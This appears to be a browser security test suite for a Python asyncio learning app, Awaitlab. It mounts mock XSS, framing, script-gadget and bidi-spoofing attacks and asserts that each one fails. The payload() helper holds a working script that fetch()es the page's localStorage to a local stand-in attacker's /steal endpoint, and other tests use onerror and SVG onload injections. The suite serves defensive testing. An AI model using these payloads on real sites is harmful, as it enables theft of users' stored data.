// Security, written as attacks. Each one asserts that the harm did not happen (the attacker's
// script never ran: no marker, no stolen data reached the attacker, the title is unchanged),
// not merely that a header exists. The attacker's site is a second origin served by this file.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import http from 'node:http';
import { launch, openPage, runProgram, editorText, URL as APP } from './helpers.mjs';

let browser;
let attacker;
/// What reached the attacker's server: every `/steal?...` request.
const stolen = [];

// The attacker's pages: `/page` opens or frames Awaitlab as the test says; `/steal` records.
function attackerServer() {
  return new Promise((resolve) => {
    const server = http.createServer((req, res) => {
      if (req.url.startsWith('/steal')) {
        stolen.push(req.url);
        res.writeHead(204, { 'access-control-allow-origin': '*' });
        return res.end();
      }
      const frame = new globalThis.URL(req.url, 'http://x').searchParams.get('frame');
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end(`<!doctype html><title>attacker</title><button id="open">open</button>
        ${frame ? `<iframe id="victim" src="${frame}" width="900" height="600"></iframe>` : ''}
        <script>document.getElementById('open').onclick = () => { window.victim = window.open(${JSON.stringify(APP)}); };</script>`);
    });
    server.listen(0, '127.0.0.1', () => resolve(server));
  });
}

// Served on "localhost": another origin (and another site) than the app's 127.0.0.1.
const attackerUrl = (path) => `http://localhost:${attacker.address().port}${path}`;

before(async () => {
  browser = await launch();
  attacker = await attackerServer();
});
after(async () => {
  await browser?.close();
  attacker?.close();
});

/// A script an attacker would like to run on Awaitlab's origin: it reads the learner's work,
/// sends it home and marks the page.
const payload = () => `<script>window.__pwned=1;document.title='PWNED';fetch(${JSON.stringify(attackerUrl('/steal?d='))}+encodeURIComponent(JSON.stringify(localStorage)))</script>`;
const echo = (type, body) => `${APP}api/echo?content_type=${encodeURIComponent(type)}&body=${encodeURIComponent(body)}`;

async function notPwned(page, what) {
  await page.waitForTimeout(300);
  assert.notEqual(await page.title(), 'PWNED', `${what}: the attacker's script changed the title`);
  assert.equal(await page.evaluate(() => window.__pwned), undefined, `${what}: the attacker's script ran`);
  assert.deepEqual(stolen, [], `${what}: data reached the attacker`);
}

function assertSandboxed(response, what) {
  const headers = response.headers();
  // A host may send the page's policy too (both apply; the sandbox is what matters here).
  const policies = (headers['content-security-policy'] ?? '').split('\n');
  assert.ok(policies.some((p) => /^sandbox; default-src 'none'/.test(p)), `${what}: no sandbox policy in ${policies}`);
  assert.equal(headers['x-content-type-options'], 'nosniff', `${what}: may be sniffed`);
}

/// The attacker's page opens Awaitlab (a fresh profile: nothing visited before), waits for its
/// service worker, then steers that window to a hostile echo document.
async function openedByAttacker(context) {
  const attackerPage = await context.newPage();
  await attackerPage.goto(attackerUrl('/page'));
  const [victim] = await Promise.all([attackerPage.waitForEvent('popup'), attackerPage.click('#open')]);
  await victim.locator('main[data-ready="true"]').waitFor();
  await victim.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 10000 });
  await victim.getByTestId('editor').fill('print("my secret homework")\n');
  return { attackerPage, victim };
}

test('the echo route cannot run the attacker\'s HTML on the app\'s origin (fresh profile, app window steered)', async () => {
  const context = await browser.newContext();
  const { attackerPage, victim } = await openedByAttacker(context);
  const responses = [];
  victim.on('response', (r) => { if (r.url().includes('/api/echo')) responses.push(r); });
  await attackerPage.evaluate((url) => { window.victim.location.href = url; }, echo('text/html', payload()));
  await victim.waitForLoadState('load');
  await notPwned(victim, 'echo as text/html');
  assert.ok(responses.length > 0);
  assertSandboxed(responses.at(-1), 'echo');
  assert.doesNotMatch(responses.at(-1).headers()['content-type'] ?? '', /html/);
  await context.close();
});

test('the echo route cannot run HTML, SVG or XML in a tab beside the open app', async () => {
  const context = await browser.newContext();
  await openedByAttacker(context);
  for (const type of ['text/html', 'image/svg+xml', 'application/xhtml+xml', 'text/xml', 'TEXT/HTML; charset=utf-8']) {
    const body = type.includes('svg') || type.includes('xml')
      ? `<svg xmlns="http://www.w3.org/2000/svg" onload="window.__pwned=1;document.title='PWNED'">${payload()}</svg>`
      : payload();
    const tab = await context.newPage();
    const started = Date.now();
    const response = await tab.goto(echo(type, body));
    assert.ok(Date.now() - started < 3000, `${type}: answered in ${Date.now() - started} ms`);
    assertSandboxed(response, type);
    assert.match(response.headers()['content-type'], /^text\/plain/, `${type} is answered as plain text`);
    await notPwned(tab, type);
    await tab.close();
  }
  await context.close();
});

test('echo is no script gadget: <script src=./api/echo...> inside the app page never runs', async () => {
  const context = await browser.newContext();
  const { page } = await openPage(context);
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 10000 });
  const ran = await page.evaluate(async (types) => {
    const results = [];
    for (const type of types) {
      const script = document.createElement('script');
      script.src = `./api/echo?content_type=${encodeURIComponent(type)}&body=${encodeURIComponent('window.__gadget=(window.__gadget||0)+1')}`;
      const done = new Promise((resolve) => { script.onload = () => resolve('loaded'); script.onerror = () => resolve('refused'); });
      document.head.append(script);
      results.push([type, await done]);
    }
    return { results, gadget: window.__gadget ?? 0 };
  }, ['text/plain', 'application/javascript', 'text/javascript', 'application/json']);
  assert.equal(ran.gadget, 0, `a script from /api/echo ran: ${JSON.stringify(ran.results)}`);
  await context.close();
});

test('every /api/ route visited directly answers within a second, sandboxed, with or without an app tab', async () => {
  const routes = ['api', 'api/stats', 'api/stats/reset', 'api/videos?n=3', 'api/videos/student', 'api/kittens/2', 'api/posts/python',
    'api/echo?body=hi', 'api/echo?status=999', 'api/videos?n=-1', 'api/nowhere'];
  const context = await browser.newContext();
  const { page: app } = await openPage(context);
  await app.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 10000 });
  const visit = async (route) => {
    const tab = await context.newPage();
    const started = Date.now();
    const response = await tab.goto(APP + route);
    const ms = Date.now() - started;
    assertSandboxed(response, route);
    await notPwned(tab, route);
    return { tab, ms, status: response.status(), body: await response.text() };
  };
  // With the app open: the app's practice API answers (a tab showing /api/ is never asked).
  const tabs = [];
  for (const route of routes) {
    const r = await visit(route);
    assert.ok(r.ms < 1500, `${route} took ${r.ms} ms`);
    assert.notEqual(r.status, 503, `${route}: ${r.body}`);
    tabs.push(r.tab);
  }
  assert.equal((await visit('api/echo?status=999')).status, 400);
  assert.equal((await visit('api/videos?n=-1')).status, 400);
  // The app closes; the /api/ tabs stay open. The service worker must not wait on them.
  await app.close();
  for (const route of ['api/stats', 'api/videos/student']) {
    const r = await visit(route);
    assert.ok(r.ms < 2500, `${route} with no app open took ${r.ms} ms`);
    assert.equal(r.status, 503);
    assert.match(r.body, /Awaitlab page is open/);
    await r.tab.close();
  }
  for (const tab of tabs) await tab.close();
  await context.close();
  // No service worker at all (a first visit straight to /api/): the host's answer, sandboxed too.
  const bare = await browser.newContext();
  const tab = await bare.newPage();
  const response = await tab.goto(APP + 'api/echo?content_type=text/html&body=' + encodeURIComponent(payload()));
  assertSandboxed(response, 'direct first visit');
  await notPwned(tab, 'direct first visit');
  await bare.close();
});

test('markup, scripts and bidi controls from a program are shown as text: output, task names, exceptions', async () => {
  const context = await browser.newContext();
  const { page, errors } = await openPage(context);
  const evil = '<img src=x onerror="window.__pwned=1"><script>window.__pwned=1</script>';
  const program = [
    'import asyncio',
    `EVIL = ${JSON.stringify(evil)}`,
    'async def work():',
    '    await asyncio.sleep(0.1)',
    'async def main():',
    "    await asyncio.create_task(work(), name=EVIL + '\\u202etxt.exe')",
    "    print(EVIL, 'abc\\u202edef', 'zero\\u200bwidth')",
    "    raise ValueError(EVIL + '\\u2066')",
    'asyncio.run(main())',
  ].join('\n');
  const { state, output } = await runProgram(page, program);
  assert.equal(state, 'failed');
  assert.ok(output.includes(`${evil} abc\\u202edef zero\\u200bwidth`), output);
  assert.ok(output.includes(`ValueError: ${evil}\\u2066`), output);
  assert.doesNotMatch(output, /[\u202a-\u202e\u2066-\u2069\u200b]/, 'no control character is applied in the console');
  // A long task name is cut in its lane's title column; the whole of it is in the hover.
  const names = await page.$$eval('[data-testid="lane-head"]', (hs) => hs.map((h) => h.textContent));
  assert.ok(names.some((n) => n.includes('\\u202etxt.exe')), names.join(' | '));
  assert.equal(await page.locator('main img, main script').count(), 0);
  await notPwned(page, 'program output');
  assert.deepEqual(errors, []);
  await context.close();
});

test('a share link and embed parameters carrying markup are shown as text and run nothing', async () => {
  const context = await browser.newContext();
  const page = await context.newPage();
  const program = `print("<script>window.__pwned=1</script>")\n# \u202e hidden\n`;
  await page.goto(APP + '?embed=1&title=%3Cimg%20src%3Dx%20onerror%3Dwindow.__pwned%3D1%3E#code=' + Buffer.from(program).toString('base64url'));
  await page.locator('main[data-ready="true"]').waitFor();
  assert.equal(await editorText(page), program);
  // (CodeMirror's own empty widget buffers around the shown control character are the only images.)
  assert.equal(await page.locator('body img:not(.cm-widgetBuffer)').count(), 0);
  await notPwned(page, 'share link');
  await context.close();
});

test('the full app inside another site\'s frame shows no saved work; an embed works there', async () => {
  const context = await browser.newContext();
  const own = await context.newPage();
  await own.goto(APP);
  await own.locator('main[data-ready="true"]').waitFor();
  await own.getByTestId('editor').fill('print("my secret homework")\n');
  await own.waitForTimeout(300);
  const attackerPage = await context.newPage();
  await attackerPage.goto(attackerUrl('/page?frame=' + encodeURIComponent(APP)));
  const frame = attackerPage.frameLocator('#victim');
  await frame.getByTestId('framed-notice').waitFor();
  const text = await frame.locator('body').textContent();
  assert.doesNotMatch(text, /secret homework/);
  assert.equal(await frame.getByTestId('editor').count(), 0);
  await attackerPage.goto(attackerUrl('/page?frame=' + encodeURIComponent(APP + '?embed=1#code=' + Buffer.from('print(1)\n').toString('base64url'))));
  await attackerPage.frameLocator('#victim').getByTestId('run').waitFor();
  await notPwned(attackerPage, 'embed');
  await context.close();
});

test('Trusted Types: HTML with scripts or handlers cannot be written into the app page, nor a foreign script loaded', async () => {
  const context = await browser.newContext();
  const { page, errors } = await openPage(context);
  const outcome = await page.evaluate(async (foreign) => {
    const tried = {};
    const attempt = (name, f) => { try { f(); tried[name] = 'written'; } catch (e) { tried[name] = e.name; } };
    attempt('img onerror', () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.__pwned=1">'));
    attempt('script element', () => { document.createElement('div').innerHTML = '<script>window.__pwned=1</script>'; });
    attempt('javascript: link', () => { document.createElement('div').innerHTML = '<a href="javascript:window.__pwned=1">x</a>'; });
    attempt('plain markup', () => { document.createElement('div').innerHTML = '<b>bold</b> text'; });
    attempt('foreign worker', () => new Worker(foreign));
    attempt('foreign script', () => { const s = document.createElement('script'); s.src = foreign; document.head.append(s); });
    await new Promise((r) => setTimeout(r, 300));
    return { tried, pwned: window.__pwned };
  }, attackerUrl('/evil.js'));
  assert.deepEqual(outcome.tried, {
    'img onerror': 'TypeError', 'script element': 'TypeError', 'javascript: link': 'TypeError', 'plain markup': 'written',
    'foreign worker': 'TypeError', 'foreign script': 'TypeError',
  });
  assert.equal(outcome.pwned, undefined);
  // The app itself still runs programs (its own templates, worker and service worker pass).
  const { state, output } = await runProgram(page, 'print("still fine")');
  assert.equal(state, 'done');
  assert.equal(output, 'still fine\n');
  assert.deepEqual(errors.filter((e) => !/Awaitlab (refused|loads)/.test(e)), []);
  await context.close();
});
